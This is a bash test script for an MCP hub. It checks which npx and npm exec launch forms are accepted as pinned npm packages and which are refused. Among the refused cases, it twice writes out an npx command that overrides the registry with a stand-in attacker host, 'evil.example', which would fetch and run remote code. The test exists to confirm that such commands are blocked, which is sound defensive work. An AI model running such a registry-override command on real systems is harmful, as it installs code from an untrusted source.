#!/usr/bin/env bash
# The npx forms of MCP clients' configurations (issue 38, item 7), against the stand-in
# npm registry of test_spokes_npm.sh: LaunchDarkly's `npx -y --package PKG -- BIN ARGS`
# and `npm exec` are taken as npm: (the package in the hub's store, BIN its program
# by name); any other npm or npx command is refused before anything starts, saying to
# use npm: (inside the jail npx would reach no registry).
. "$(dirname "$0")/../lib.sh"
MODE=process
. "$ROOT/tests/hub/hub_lib.sh"
require_cmds node npm
hub_setup
REF=$ROOT/tests/mcpservers/npmref
REG=$TMP/registry
mkdir -p "$REG" "$TMP/new"
$PY "$REF/registry.py" "$REG" >"$TMP/port" 2>"$TMP/registry.err" &
at_exit "kill $!"
has_port() { [ -s "$TMP/port" ]; }
wait_for "the stand-in registry" 30 has_port || exit 1
PORT=$(head -n 1 "$TMP/port")
export npm_config_registry=http://127.0.0.1:$PORT/ npm_config_cache=$TMP/npm-cache
export npm_config_update_notifier=false
$PY "$REF/publish.py" "$REG" "$PORT" 1.0.0 "Echoes the message back." >/dev/null
add() { "$BIN/hub" spokes add --config "$CONF" --spokes "$TMP/new" --yes "$@"; }
STORE=$DATA/.spoke-packages

add ld -- npx -y --package isolate-test-mcp@1.0.0 -- isolate-test-mcp >"$TMP/out" 2>"$TMP/err"
is "npx -y --package PKG -- BIN (LaunchDarkly's form) is added" "$?" 0
like "... taken as npm:, naming its program" "$(cat "$TMP/out")" \
    'taken as npm:isolate-test-mcp@1.0.0, its program isolate-test-mcp'
is "... pinned like npm:" "$(jget 'd["package"]["npm"] + " " + d["package"]["version"]' <"$TMP/new/ld.json")" \
    "isolate-test-mcp 1.0.0"
out=$("$BIN/hub" call --config "$CONF" --spokes "$TMP/new" ld.echo '{"message":"via --package"}' 2>&1)
is "... and the server answers" "$(echo "$out" | jget 'd["content"][0]["text"]')" "via --package"

add nobin -- npx --package=isolate-test-mcp -- no-such-program >"$TMP/out" 2>"$TMP/err"
is "--package PKG -- BIN where the package has no program BIN: fails (exit 3)" "$?" 3
like "... naming it" "$(cat "$TMP/err")" 'package isolate-test-mcp installs no program "no-such-program"'
check "... writes nothing" test ! -e "$TMP/new/nobin.json"
check "... and leaves nothing in the store" test ! -e "$STORE/nobin"

add viaexec -- npm exec --yes -- isolate-test-mcp@1.0.0 >"$TMP/out" 2>"$TMP/err"
is "npm exec --yes -- PKG is added" "$?" 0
like "... taken as npm:" "$(cat "$TMP/out")" 'taken as npm:isolate-test-mcp@1.0.0'

# ---- npm and npx otherwise: refused, saying to use npm: ----
for form in "npx -c isolate-test-mcp" "npm start" "npx --registry=http://evil.example/ isolate-test-mcp" \
    "npx -p a -p b -- c" "npx -y"; do
    # shellcheck disable=SC2086
    add refused -- $form >"$TMP/out" 2>"$TMP/err"
    is "\"$form\" is refused (exit 2)" "$?" 2
    like "... saying to use npm:" "$(cat "$TMP/err")" "would run inside the jail, which reaches no registry: give the package as npm:PACKAGE"
done
check "... nothing was written" test ! -e "$TMP/new/refused.json"
check "... nothing was started (no spoke log)" test ! -e "$RUN/spokes/tester/refused.log"
NPX_CLI=$(readlink -f "$(command -v npx)")
add refused -- node "$NPX_CLI" --registry=http://evil.example/ isolate-test-mcp >"$TMP/out" 2>"$TMP/err"
is "node running npx's own script with an option not taken is refused too (exit 2)" "$?" 2
done_testing
